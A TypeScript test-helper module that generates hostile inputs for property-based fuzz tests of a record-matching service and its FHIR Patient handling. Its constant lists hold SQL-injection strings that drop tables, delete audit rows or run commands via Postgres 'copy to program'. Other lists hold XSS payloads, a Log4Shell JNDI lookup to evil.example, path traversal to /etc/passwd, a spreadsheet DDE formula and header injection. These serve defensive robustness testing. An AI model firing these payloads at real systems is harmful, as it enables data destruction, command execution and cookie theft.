import fc from 'fast-check';
import { CANONICAL_COLUMNS } from '../../src/matching/record-types';

/**
 * Hostile values for the property tests (hostile-input-*.test.ts): SQL-like, script-like,
 * oversized, deeply nested, wrong-type and Unicode-confusable, and plain random ones. Each
 * drawn value is counted under its kind, so the run can report what it tried.
 */
export const tried = new Map<string, number>();

// The reason a property failed belongs in the report; the giant counterexamples do not.
fc.configureGlobal({ includeErrorInReport: true, reporter: undefined });

export function tally(kind: string, n = 1): void {
  tried.set(kind, (tried.get(kind) ?? 0) + n);
}

/** Counts by group: requests sent (route:, header:), file rows (csv:, ndjson:) and values drawn. */
export function report(title: string): string {
  const groups = new Map<string, [string, number][]>();
  for (const [kind, n] of [...tried.entries()].sort(([a], [b]) => a.localeCompare(b))) {
    const prefix = kind.slice(0, kind.indexOf(':') + 1) || kind;
    const group = ['route:', 'header:'].includes(prefix)
      ? 'requests'
      : ['csv:', 'ndjson:'].includes(prefix)
        ? 'file rows'
        : 'values';
    groups.set(group, [...(groups.get(group) ?? []), [kind, n]]);
  }
  const lines = [`${title}:`];
  for (const [group, rows] of groups) {
    lines.push(
      `  ${group}: ${rows.reduce((sum, [, n]) => sum + n, 0)}`,
      ...rows.map(([kind, n]) => `    ${kind}: ${n}`),
    );
  }
  return lines.join('\n');
}

export const SQL_LIKE = [
  "' OR '1'='1",
  "'; DROP TABLE source_record; --",
  '1; select pg_sleep(10) --',
  "Robert'); DELETE FROM audit_event; --",
  "\\'; copy (select 1) to program 'id'; --",
  "1' union select token, token from record_block_key --",
  '$1::uuid',
  "E'\\\\x00'",
];
export const SCRIPT_LIKE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  "=cmd|' /C calc'!A0",
  '\r\nSet-Cookie: pwned=1',
];
export const CONFUSABLE = [
  '\u0410lice', // Cyrillic A
  'ｊｏｈｎ　ｓｍｉｔｈ', // fullwidth
  'Jo\u200Bhn', // zero-width space
  '\u202Eevil\u202C', // right-to-left override
  'e\u0301e\u0301', // combining accents
  '\uD800', // lone surrogate
  'A\u0000B', // NUL
  '\uFEFFbom',
  '𝓙𝓸𝓱𝓷', // mathematical script
  '👨‍👩‍👧‍👦',
  'İstanbul ß ǅ',
  '١٢٣-٤٥-٦٧٨٩', // Arabic-Indic digits
];

const kinds = {
  sql: fc.constantFrom(...SQL_LIKE),
  script: fc.constantFrom(...SCRIPT_LIKE),
  confusable: fc.constantFrom(...CONFUSABLE),
  oversized: fc.integer({ min: 201, max: 20_000 }).map((n) => 'Ω'.repeat(n)),
  random: fc.string({ maxLength: 40, unit: 'binary' }),
  dateish: fc.constantFrom(
    '1984-02-30',
    '0000-00-00',
    '9999-12-31T99:99',
    '1984/03/12',
    '-1',
    '1e309',
    'NaN',
  ),
};

/** A hostile string, counted by kind. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  ...Object.entries(kinds).map(([kind, arb]) =>
    arb.map((value) => (tally(`string:${kind}`), value)),
  ),
);

/** A JSON value of the wrong type or shape where a string is expected. */
export const wrongType: fc.Arbitrary<unknown> = fc
  .oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.string(), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 3 }),
  )
  .map((value) => (tally('wrong-type'), value));

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: wrongType },
);

/** JSON nested `depth` levels deep, as text (so the parser meets it, not our serializer). */
export function deeplyNested(depth: number, inner = '"x"'): string {
  tally('deeply-nested');
  return '{"records":' + '['.repeat(depth) + inner + ']'.repeat(depth) + '}';
}

/** A canonical record with hostile values in some fields and sometimes an unknown one. */
export const hostileRecord: fc.Arbitrary<Record<string, unknown>> = fc
  .record(
    {
      base: fc.record({ source: fc.constant('hostile-src'), source_id: fc.uuid() }),
      fields: fc.dictionary(fc.constantFrom(...CANONICAL_COLUMNS), hostileValue, { maxKeys: 4 }),
      extra: fc.option(
        fc.dictionary(
          fc.oneof(hostileString, fc.constantFrom('__proto__', 'constructor', 'favourite')),
          hostileValue,
          { maxKeys: 2 },
        ),
      ),
    },
    { requiredKeys: ['base', 'fields'] },
  )
  .map(({ base, fields, extra }) => ({ ...base, ...fields, ...(extra ?? {}) }));

/** A FHIR Patient that is wrong in some way: fields of the wrong type, hostile values, odd resourceType. */
export const hostilePatient: fc.Arbitrary<unknown> = fc.oneof(
  fc.record(
    {
      resourceType: fc.constantFrom('Patient', 'Observation', 'patient', '', 'Patient\u0000'),
      identifier: fc.oneof(
        fc.array(
          fc.record({
            system: hostileValue,
            value: hostileValue,
            type: fc.constant({
              coding: [{ system: 'http://terminology.hl7.org/CodeSystem/v2-0203', code: 'MR' }],
            }),
          }),
          { maxLength: 3 },
        ),
        wrongType,
      ),
      name: fc.oneof(
        fc.array(
          fc.record({
            family: hostileValue,
            given: fc.oneof(fc.array(hostileValue, { maxLength: 3 }), wrongType),
          }),
          { maxLength: 2 },
        ),
        wrongType,
      ),
      birthDate: hostileValue,
      gender: hostileValue,
      telecom: fc.oneof(
        fc.array(
          fc.record({ system: fc.constantFrom('phone', 'email', 'fax', 'x'), value: hostileValue }),
          { maxLength: 2 },
        ),
        wrongType,
      ),
      address: fc.oneof(
        fc.array(
          fc.record({
            line: fc.array(hostileValue, { maxLength: 2 }),
            city: hostileValue,
            postalCode: hostileValue,
          }),
          { maxLength: 2 },
        ),
        wrongType,
      ),
    },
    { requiredKeys: ['resourceType'] },
  ),
  fc.anything({ maxDepth: 3 }).map((v) => (tally('fhir:anything'), v)),
);

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g;

/** encodeURIComponent refuses lone surrogates; the raw-bytes cases send broken UTF-8 instead. */
export function encode(value: string): string {
  return encodeURIComponent(value.replace(LONE_SURROGATE, '\uFFFD'));
}

/** Percent-encodings that are not UTF-8, or not percent-encodings at all. */
export const BROKEN_ENCODINGS = ['%FF%FE', '%ED%A0%80', '%C0%AF', '%', '%zz', '%00', '%E2%80%AE'];

/** A query string of known and unknown parameter names with hostile values, some repeated. */
export function hostileQuery(names: readonly string[]): fc.Arbitrary<string> {
  return fc
    .array(fc.tuple(fc.oneof(fc.constantFrom(...names), hostileString), hostileString), {
      minLength: 1,
      maxLength: 4,
    })
    .map((pairs) => pairs.map(([k, v]) => `${encode(k)}=${encode(v.slice(0, 500))}`).join('&'));
}
